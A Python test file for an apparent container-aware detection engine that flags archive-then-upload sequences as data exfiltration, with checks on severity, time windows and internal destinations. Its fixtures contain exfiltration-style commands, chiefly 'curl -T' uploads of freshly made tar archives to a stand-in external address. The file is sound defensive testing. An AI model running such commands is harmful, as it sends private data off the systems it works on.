"""Correlation through the whole engine: archive then transfer, per container, in a window."""

from __future__ import annotations

from tests.builders import CID, connect, container, file_write, flow, launch
from tidewaiter.detection.analytics import CREATED, EXFIL, INTERNAL, Finding
from tidewaiter.detection.correlate import CorrelationConfig
from tidewaiter.events import Event
from tidewaiter.pipeline import Engine, EngineConfig

OTHER = "9" * 64


def run(events: list[Event], **config: object) -> list[Finding]:
    found: list[Finding] = []
    engine = Engine(found.append, EngineConfig(**config))  # type: ignore[arg-type]
    for event in sorted(events, key=lambda e: e.time):
        engine.process(event)
    engine.flush()
    return found


def test_archive_then_upload_in_same_container_is_exfiltration() -> None:
    ctr = container()
    [finding] = run(
        [
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, pid=101, ctr=ctr),
        ]
    )
    assert finding.analytic.uid == EXFIL
    assert finding.entity.container is not None
    assert finding.entity.container.uid == CID
    assert finding.severity_id == 5  # raised: the uploader names the archive
    assert any("names the archive a.tgz" in r for r in finding.reasons)
    assert [s.kind.value for s in finding.evidence] == ["archive", "upload"]


def test_egress_alone_after_archive_is_medium() -> None:
    ctr = container()
    [finding] = run(
        [
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
            connect("198.51.100.20", time=1200, ctr=ctr, sent=5000),
        ]
    )
    assert (finding.analytic.uid, finding.severity_id) == (EXFIL, 3)


def test_bytes_reaching_half_the_archive_size_raise_severity() -> None:
    ctr = container()
    [finding] = run(
        [
            file_write("/tmp/a.tgz", time=1000, ctr=ctr, size=10_000),
            connect("198.51.100.20", time=1200, ctr=ctr, sent=3_000),
            connect("198.51.100.20", time=1201, ctr=ctr, sent=2_500),
        ]
    )
    assert finding.severity_id == 4  # medium (egress alone), raised once
    assert any("5500 bytes left" in r for r in finding.reasons)
    # the two sends of one flow are one evidence item with the bytes summed
    [egress] = [s for s in finding.evidence if s.kind.value == "egress"]
    assert (egress.bytes_out, egress.repeats) == (5500, 2)


def test_encrypted_archive_raises_severity() -> None:
    ctr = container()
    [finding] = run(
        [
            launch("7z a -pS3cret /tmp/a.7z /data", time=1000, ctr=ctr),
            connect("198.51.100.20", time=1010, ctr=ctr),
        ]
    )
    assert finding.severity_id == 4
    assert "the archive was encrypted before it left" in finding.reasons


def test_transfer_from_another_container_does_not_correlate() -> None:
    # /tmp is each container's own: the same name there is not a shared file.
    found = run(
        [
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=container()),
            launch(
                "curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, ctr=container(OTHER, "web")
            ),
        ]
    )
    assert [f.analytic.uid for f in found] == [CREATED]
    assert found[0].severity_id == 2


def test_transfer_after_the_window() -> None:
    ctr = container()
    found = run(
        [
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
            launch("curl -T /tmp/other.bin https://203.0.113.5/u", time=1000 + 901, ctr=ctr),
        ]
    )
    assert [f.analytic.uid for f in found] == [CREATED]
    # An upload that names the archive joins it however late (within a day): the archive's
    # own finding stands, and the upload makes the exfiltration one.
    named = run(
        [
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1000 + 901, ctr=ctr),
        ]
    )
    assert [f.analytic.uid for f in named] == [CREATED, EXFIL]
    # Within the update window it is late evidence of the archive's finding: the same uid.
    assert [f.revision for f in named] == [0, 1]
    assert named[0].uid == named[1].uid
    later = run(
        [
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1000 + 900 + 1801, ctr=ctr),
        ]
    )
    # Beyond it, the name still joins them (for a day): an update of the same finding.
    assert [(f.analytic.uid, f.revision) for f in later] == [(CREATED, 0), (EXFIL, 1)]
    assert later[0].uid == later[1].uid
    longer = run(
        [
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1000 + 901, ctr=ctr),
        ],
        correlation=CorrelationConfig(window=1800),
    )
    assert [f.analytic.uid for f in longer] == [EXFIL]


def test_internal_upload_is_low() -> None:
    ctr = container()
    [finding] = run(
        [
            launch("tar -czf /backup/db.tgz /var/lib/db", time=1000, ctr=ctr),
            launch("rsync -az /backup/db.tgz backup.internal:/srv/", time=1100, ctr=ctr),
            connect("10.20.0.5", port=22, time=1101, ctr=ctr),
        ]
    )
    assert (finding.analytic.uid, finding.severity_id) == (INTERNAL, 2)


def test_internal_cidrs_from_config_make_a_destination_internal() -> None:
    ctr = container()
    events = [
        launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
        launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, ctr=ctr),
    ]
    [finding] = run(events, internal_cidrs=("203.0.113.0/24",))
    assert finding.analytic.uid == INTERNAL


def test_extraction_and_log_rotation_raise_nothing_above_low() -> None:
    ctr = container()
    found = run(
        [
            launch("tar -xzf /tmp/pkg.tgz -C /opt", time=1000, ctr=ctr),
            launch("gzip -d /tmp/data.gz", time=1001, ctr=ctr),
            launch("apt-get install -y curl", time=1002, ctr=ctr),
            connect("151.101.2.132", port=80, time=1003, ctr=ctr, sent=300),
        ]
    )
    assert found == []


def test_zeek_flow_joins_the_container_by_source_address() -> None:
    ctr = container()
    [finding] = run(
        [
            connect("10.0.0.1", port=53, time=990, ctr=ctr, src="10.42.0.7"),  # teaches the address
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
            flow("10.42.0.7", "198.51.100.99", 443, time=1050, sent=7_000_000),
        ]
    )
    assert finding.analytic.uid == EXFIL
    assert finding.entity.container is not None
    assert finding.entity.container.uid == CID


def test_short_container_ids_meet_the_full_id() -> None:
    full, short = container(), container(CID[:12])
    [finding] = run(
        [
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=full),
            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, ctr=short),
        ]
    )
    assert finding.analytic.uid == EXFIL
    assert finding.entity.container is not None
    assert finding.entity.container.uid == CID


def test_hosts_without_containers_correlate_per_host() -> None:
    [finding] = run(
        [
            launch(
                r"powershell -Command Compress-Archive -Path C:\d\* -DestinationPath C:\a\d.zip",
                time=1000,
                host="WS1",
            ),
            launch(r"docker run -v C:\a:/data alpine sh", time=1100, host="WS1"),
            connect("198.51.100.23", port=80, time=1110, host="WS1"),
            connect("198.51.100.23", port=80, time=1111, host="WS2"),
        ]
    )
    assert finding.analytic.uid == EXFIL
    assert finding.entity.key == "host:ws1"
    assert "runtime" in [s.kind.value for s in finding.evidence]
    assert finding.severity_id == 4  # raised: the archive's folder was mounted into a container
    assert r"the archive's folder was handed to a container (C:\a:/data)" in finding.reasons


def test_findings_are_emitted_as_event_time_passes_not_only_at_the_end() -> None:
    ctr = container()
    found: list[Finding] = []
    engine = Engine(found.append)
    engine.process(launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr))
    engine.process(launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, ctr=ctr))
    assert found == []  # settling: more sends may follow
    engine.process(launch("ls", time=1100 + 61))
    assert [f.analytic.uid for f in found] == [EXFIL]


def test_finding_uid_is_stable_for_the_same_evidence() -> None:
    def events() -> list[Event]:
        ctr = container()
        return [
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, ctr=ctr),
        ]

    assert run(events())[0].uid == run(events())[0].uid


def test_snapshot_and_restore_continue_an_open_episode() -> None:
    ctr = container()
    first: list[Finding] = []
    engine = Engine(first.append)
    engine.process(launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr))
    saved = engine.correlator.snapshot()
    resumed: list[Finding] = []
    fresh = Engine(resumed.append)
    fresh.correlator.restore(saved)
    fresh.process(launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, ctr=ctr))
    fresh.flush()
    assert first == []
    assert [f.analytic.uid for f in resumed] == [EXFIL]


def test_open_episodes_are_bounded() -> None:
    found: list[Finding] = []
    engine = Engine(found.append, EngineConfig(correlation=CorrelationConfig(max_open=10)))
    for n in range(50):
        engine.process(
            launch("tar -czf /tmp/a.tgz /d", time=1000 + n, ctr=container(f"{n:012x}" + "a" * 52))
        )
    assert engine.correlator.open_episodes == 10
    assert len(found) == 40  # closed early, reported, not lost


def test_a_quiet_record_teaches_identity_to_later_alerts() -> None:
    short = container(CID[:12], name="")
    [finding] = run(
        [
            launch("ls /srv", time=900, ctr=container()),  # no signal, but the full id and image
            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=short),
            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, ctr=short),
        ]
    )
    assert finding.entity.container is not None
    assert finding.entity.container.uid == CID
    assert finding.entity.container.image is not None
    assert finding.entity.container.image.name == "registry.example.com/payments/api:1.4"
